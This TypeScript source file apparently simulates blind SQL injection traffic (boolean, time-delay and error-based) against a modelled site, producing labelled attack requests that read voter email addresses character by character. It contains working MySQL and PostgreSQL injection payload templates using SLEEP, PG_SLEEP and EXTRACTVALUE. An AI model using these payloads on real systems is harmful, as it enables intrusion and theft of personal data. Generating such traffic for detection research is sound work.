/** Attackers who are shown nothing and learn all the same: by whether the page finds a record, by how long it takes, or
 *  by what the database complains of. A record counts as exposed with the request that gives its last character. */
import { browser } from '../agents.ts'
import type { Encode } from '../encodings.ts'
import { percentAll } from '../encodings.ts'
import type { Visit } from '../exchange.ts'
import type { Payload } from '../payloads.ts'
import { unquoted } from '../payloads.ts'
import { licenceOf, voterAt } from '../people.ts'
import type { Random } from '../random.ts'
import type { SiteDescription } from '../site.ts'
import type { Actor, Stage } from '../stage.ts'
import { at } from '../stage.ts'

export interface BlindPlan {
  readonly channel: 'boolean' | 'time' | 'error'
  readonly records: number
  readonly day: number
  readonly clock: string
  readonly pauseMs: readonly [number, number]
  readonly client?: string
  readonly agent?: string
  readonly encode?: Encode
  readonly tamper?: (payload: string) => string
}

const sleepMs = 2_000
const tail = (random: Random): string => `-- ${random.letters(4)}`

/** The value that is read, as a subquery: one column of one record. */
function subquery({ table, dialect }: SiteDescription, index: number): string {
  return dialect === 'mysql'
    ? `(SELECT IFNULL(CAST(${table.email} AS NCHAR),0x20) FROM ${table.name} ORDER BY ${table.id} LIMIT ${index},1)`
    : `(SELECT COALESCE(CAST(${table.email} AS VARCHAR(10000))::text,(CHR(32))) FROM ${table.name} ORDER BY ${table.id} OFFSET ${index} LIMIT 1)`
}

/** One yes-or-no question of the bisection over a character. */
function question(site: SiteDescription, plan: BlindPlan, condition: string, isTrue: boolean, random: Random): Payload {
  const licence = licenceOf(site.roll, 0)
  if (plan.channel === 'boolean') {
    return { text: `${licence}' AND ${condition}${tail(random)}`, effect: isTrue ? { shown: [0] } : {} }
  }
  const delay =
    site.dialect === 'mysql'
      ? `SLEEP(2-(IF(${condition},0,2)))`
      : `(SELECT CASE WHEN (${condition}) THEN PG_SLEEP(2) ELSE PG_SLEEP(0) END)`
  const text =
    site.dialect === 'mysql'
      ? `${licence}' AND ${delay}${tail(random)}`
      : `${licence}';SELECT ${delay.slice(8, -1)}${tail(random)}`
  return { text, effect: { rows: 1, shown: [0], ...(isTrue ? { sleepMs } : {}) } }
}

/** Reads a value character by character: seven questions each. */
function* bisect(site: SiteDescription, plan: BlindPlan, index: number, random: Random): Iterable<Payload> {
  const value = voterAt(site.roll, index).email
  for (let position = 1; position <= value.length; position++) {
    const code = value.charCodeAt(position - 1)
    let [low, high] = [0, 127]
    while (low < high) {
      const middle = (low + high) >> 1
      const one =
        site.dialect === 'mysql'
          ? `MID(${subquery(site, index)},${position},1)`
          : `SUBSTRING(${subquery(site, index)}::text FROM ${position} FOR 1)`
      const asked = question(
        site,
        plan,
        `${site.dialect === 'mysql' ? 'ORD' : 'ASCII'}(${one})>${middle}`,
        code > middle,
        random,
      )
      if (code > middle) low = middle + 1
      else high = middle
      const isLast = position === value.length && low === high
      yield isLast ? { ...asked, effect: { ...asked.effect, learned: [index] } } : asked
    }
  }
}

/** Makes the database complain of the value itself. */
function complaint(site: SiteDescription, index: number, random: Random): Payload {
  const mark = unquoted(site, `q${random.letters(3)}q`)
  const licence = licenceOf(site.roll, 0)
  const value = voterAt(site.roll, index).email
  const inner = subquery(site, index)
  const text =
    site.dialect === 'mysql'
      ? `${licence}' AND EXTRACTVALUE(${random.integer(1000, 9999)},CONCAT(0x5c,${mark},${inner},${mark}))${tail(random)}`
      : `${licence}' AND ${random.integer(1000, 9999)}=CAST(${mark}||${inner}::text||${mark} AS NUMERIC)${tail(random)}`
  const error =
    site.dialect === 'mysql'
      ? { code: '1105', message: `XPATH syntax error: '\\${value}'` }
      : { code: '22P02', message: `invalid input syntax for type numeric: "${value}"` }
  return { text, effect: { error, shownCharacters: value.length + error.message.length, learned: [index] } }
}

export const blindRun = (plan: BlindPlan): Actor => ({
  name: `${plan.channel}-blind-day-${plan.day + 1}`,
  label: 'attack',
  technique: `sqli-${plan.channel}`,
  *plan(stage: Stage): Iterable<Visit> {
    const { site, random } = stage
    const client = plan.client ?? stage.addresses.take(random)
    const agent = plan.agent ?? browser(random)
    const tamper = plan.tamper ?? ((payload: string) => payload)
    let timeMs = at(stage, plan.day, plan.clock)
    for (let index = 40; index < 40 + plan.records; index++) {
      const payloads =
        plan.channel === 'error'
          ? [complaint(site.description, index, random)]
          : bisect(site.description, plan, index, random)
      for (const { text, effect } of payloads) {
        const exchange = site.injected(tamper(text), plan.encode ?? percentAll, effect)
        timeMs += random.integer(plan.pauseMs[0], plan.pauseMs[1]) + exchange.durationMs
        yield { ...exchange, timeMs, client, agent, referer: '' }
      }
    }
  },
})
